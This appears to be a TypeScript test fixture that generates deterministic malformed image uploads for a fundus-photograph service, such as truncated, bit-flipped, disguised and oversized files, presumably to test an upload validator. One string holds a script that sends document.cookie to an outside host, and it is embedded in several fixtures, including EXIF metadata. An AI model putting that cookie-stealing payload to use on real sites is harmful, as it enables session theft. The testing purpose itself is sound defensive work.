/**
 * Uploads that are not what they should be, as many as wanted, the same ones every time: real files of three formats, cut
 * off, flipped bit by bit, mixed with others, or lying about themselves.
 */
import sharp from 'sharp'
import { type RandomSource, seededRandom } from '@/lib/domain/random'
import { jpegOfSize, pngOfSize, withJpegSegment } from './fixtures'
import { plainFundus, plainFundusPng } from './plain-fundus'

export type Malformed = {
  name: string
  bytes: Buffer
  /** What is odd about it does not hide the photograph: it may be read. */
  mayBeRead: boolean
}

type Sources = { jpeg: Buffer; progressive: Buffer; png: Buffer; tiff: Buffer }
type Make = (sources: Sources, random: RandomSource) => Omit<Malformed, 'name'> | Promise<Omit<Malformed, 'name'>>

const pick = <T>(random: RandomSource, values: readonly T[]): T => {
  const value = values[Math.floor(random.next() * values.length)]
  if (value === undefined) throw new Error('There is nothing to pick from.')
  return value
}
const one = (sources: Sources, random: RandomSource) => pick(random, Object.values(sources))
const place = (random: RandomSource, length: number) => Math.floor(random.next() * length)
const text =
  (content: string): Make =>
  () => ({ bytes: Buffer.from(content, 'latin1'), mayBeRead: false })

const html = '<!doctype html><script>fetch("//example.org/"+document.cookie)</script>'

/** By what is wrong with them; those that come first are made often, the rest once in a round. */
const kinds: Record<string, Make> = {
  'cut off': (sources, random) => {
    const whole = one(sources, random)
    return { bytes: whole.subarray(0, 1 + place(random, whole.length - 64)), mayBeRead: false }
  },
  'bits flipped': (sources, random) => {
    const bytes = Buffer.from(one(sources, random))
    for (let i = 0; i < 1 + place(random, 30); i++) {
      const at = place(random, bytes.length)
      bytes[at] = (bytes[at] ?? 0) ^ (1 << place(random, 8))
    }
    return { bytes, mayBeRead: true }
  },
  'header overwritten': (sources, random) => {
    const bytes = Buffer.from(one(sources, random))
    for (let i = 0; i < 4; i++) bytes[2 + place(random, 60)] = place(random, 256)
    return { bytes, mayBeRead: true }
  },
  'a stretch of noise': (sources, random) => {
    const bytes = Buffer.from(one(sources, random))
    const from = place(random, bytes.length)
    for (let i = from; i < Math.min(bytes.length, from + 400); i++) bytes[i] = place(random, 256)
    return { bytes, mayBeRead: true }
  },
  'a stretch missing': (sources, random) => {
    const whole = one(sources, random)
    const from = place(random, whole.length - 200)
    return { bytes: Buffer.concat([whole.subarray(0, from), whole.subarray(from + 100)]), mayBeRead: true }
  },
  'two files in one': (sources, random) => {
    const first = one(sources, random)
    return { bytes: Buffer.concat([first, Buffer.from(html), one(sources, random)]), mayBeRead: true }
  },
  'a page before the photograph': ({ jpeg }) => ({
    bytes: Buffer.concat([Buffer.from(html), jpeg]),
    mayBeRead: false,
  }),
  'a page in EXIF': ({ jpeg }) => ({
    bytes: withJpegSegment(jpeg, 0xe1, Buffer.from(`Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0${html}`, 'latin1')),
    mayBeRead: true,
  }),
  'EXIF that points nowhere': ({ jpeg }) => ({
    bytes: withJpegSegment(jpeg, 0xe1, Buffer.from('Exif\0\0MM\0*\xff\xff\xff\xff\xff\xff', 'latin1')),
    mayBeRead: true,
  }),
  'a colour profile of noise': ({ jpeg }, random) => ({
    bytes: withJpegSegment(
      jpeg,
      0xe2,
      Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), noise(random, 300)]),
    ),
    mayBeRead: true,
  }),
  'the magic number of another format': ({ png, jpeg }, random) => ({
    bytes: Buffer.concat([pick(random, [png, jpeg]).subarray(0, 8), noise(random, 2000)]),
    mayBeRead: false,
  }),
  'a JPEG of 65,500 × 65,500': ({ jpeg }) => ({ bytes: jpegOfSize(jpeg, 65_500), mayBeRead: false }),
  'a JPEG without height': ({ jpeg }) => ({ bytes: jpegOfSize(jpeg, 0), mayBeRead: false }),
  'a PNG of 50,000 × 50,000': () => ({ bytes: pngOfSize(50_000), mayBeRead: false }),
  'a PNG whose size is no size': () => ({ bytes: pngOfSize(0), mayBeRead: false }),
  'a WebP': async ({ png }) => ({ bytes: await sharp(png).webp().toBuffer(), mayBeRead: false }),
  'an animation': async ({ png }) => ({ bytes: await sharp(png).gif().toBuffer(), mayBeRead: false }),
  'a TIFF of several pages': async ({ png }) => ({
    bytes: await sharp(Buffer.alloc(240 * 480 * 3), { raw: { width: 240, height: 480, channels: 3, pageHeight: 240 } })
      .composite([{ input: png }])
      .tiff({ compression: 'lzw' })
      .toBuffer(),
    mayBeRead: true,
  }),
  'a TIFF whose directory is itself': () => ({
    bytes: Buffer.from('II*\0\x08\0\0\0\x01\0\x00\x01\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0', 'latin1'),
    mayBeRead: false,
  }),
  'all of one colour': async () => ({
    bytes: await sharp({ create: { width: 400, height: 300, channels: 3, background: '#806040' } })
      .jpeg()
      .toBuffer(),
    mayBeRead: false,
  }),
  'too small': async ({ png }) => ({ bytes: await sharp(png).resize(40).png().toBuffer(), mayBeRead: false }),
  'a letter': text('Dear colleague, please find attached the photograph.'),
  'a page': text(html),
  'a drawing': text('<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><script>1</script></svg>'),
  'a document': text('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'),
  'an archive': text('PK\x03\x04\x14\0\0\0\x08\0'),
  'a program': text('\x7fELF\x02\x01\x01'),
  'nothing at all': text(''),
  zeros: () => ({ bytes: Buffer.alloc(5000), mayBeRead: false }),
}

const noise = (random: RandomSource, length: number) =>
  Buffer.from(Uint8Array.from({ length }, () => place(random, 256)))

const often = 6

/** @param count of them; every kind occurs from about 60 on */
export async function malformedPhotographs(count: number): Promise<Malformed[]> {
  const random = seededRandom(17)
  const jpeg = await plainFundus(1)
  const png = await plainFundusPng(1)
  const sources: Sources = {
    jpeg,
    png,
    progressive: await sharp(png).jpeg({ progressive: true }).toBuffer(),
    tiff: await sharp(png).tiff({ compression: 'lzw' }).toBuffer(),
  }
  const entries = Object.entries(kinds)
  const made: Malformed[] = []
  for (let i = 0; made.length < count; i++) {
    // Every other one is of a kind that chance makes different each time.
    const [kind, make] = entries[i % 2 === 0 ? (i / 2) % often : ((i - 1) / 2) % entries.length] ?? []
    if (make) made.push({ name: `${i} ${kind}`, ...(await make(sources, random)) })
  }
  return made
}
